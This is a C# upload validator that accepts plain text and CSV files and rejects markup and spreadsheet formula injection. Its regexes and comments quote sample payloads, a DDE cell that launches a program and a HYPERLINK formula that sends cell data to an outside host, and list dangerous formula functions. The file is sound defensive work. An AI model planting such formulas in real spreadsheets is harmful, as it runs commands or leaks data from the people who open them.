using System.Text;
using System.Text.RegularExpressions;

namespace Matchmaking.Web.Files;

/// <summary>
/// Files that are text. Scripts and pages are text too and only their name tells: so the name must say that it is a text or a table, or
/// nothing.
/// </summary>
internal static partial class TextContent
{
    private const int Beginning = 4096;

    public static (FileType?, FileRefusal?) Read(ReadOnlySpan<byte> content, string extension)
    {
        var text =
            content.StartsWith((ReadOnlySpan<byte>)[0xFF, 0xFE]) ? Encoding.Unicode.GetString(content)
            : content.StartsWith((ReadOnlySpan<byte>)[0xFE, 0xFF]) ? Encoding.BigEndianUnicode.GetString(content)
            : Encoding.Latin1.GetString(content);
        // A byte above 7F is a letter in one charset or another, but none has letters among the control characters.
        if (text.AsSpan().ContainsAny(Controls) || extension is not ("" or "txt" or "csv"))
            return (null, FileRefusal.Type);
        if (Markup().IsMatch(text.Length > Beginning ? text[..Beginning] : text))
            return (null, FileRefusal.Active);
        if (extension != "csv")
            return (FileType.Txt, null);
        return Command().IsMatch(text) || Call().IsMatch(text) || Sylk().IsMatch(text) ? (null, FileRefusal.Active) : (FileType.Csv, null);
    }

    private static ReadOnlySpan<char> Controls =>
        "\u0000\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000E\u000F\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019"
        + "\u001C\u001D\u001E\u001F\u007F";

    [GeneratedRegex(
        @"^[\s\u00EF\u00BB\u00BF\uFEFF]*<|<(?:!doctype|html|script|svg|iframe|body|head)\b",
        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking
    )]
    private static partial Regex Markup();

    /// <summary>A cell that asks another program for its value: <c>=cmd|'/C calc'!A0</c>.</summary>
    [GeneratedRegex(@"(?:^|[,;\t\r\n""])[ ""]*[=+@-][^,;\t\r\n|]*\|[^\n!]*!", RegexOptions.CultureInvariant | RegexOptions.NonBacktracking)]
    private static partial Regex Command();

    /// <summary>A cell whose formula reaches out of the table: <c>=HYPERLINK("http://example.com/?"&amp;A1)</c>.</summary>
    [GeneratedRegex(
        @"(?:(?:^|[,;\t\r\n])[ ]*[=+@-][^,;\t\r\n]*|""[ ""]*[=+@-](?:[^""]|"""")*)"
            + @"\b(?:(?:HYPERLINK|WEBSERVICE|IMPORT(?:XML|DATA|FEED|HTML|RANGE)|RTD|SQL\.REQUEST)[ ]*"
            + @"|IMAGE|EXEC|CALL|REGISTER(?:\.ID)?|DDE)\(",
        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking
    )]
    private static partial Regex Call();

    /// <summary>
    /// A table of another kind, which Excel opens by its beginning whatever its name is, with formulas and macros. A table whose first
    /// column is called "ID" has no line of its cells.
    /// </summary>
    [GeneratedRegex(
        @"^[\s\u00EF\u00BB\u00BF\uFEFF]*ID;(?:.|\n)*[\r\n][ \t]*C;",
        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking
    )]
    private static partial Regex Sylk();
}
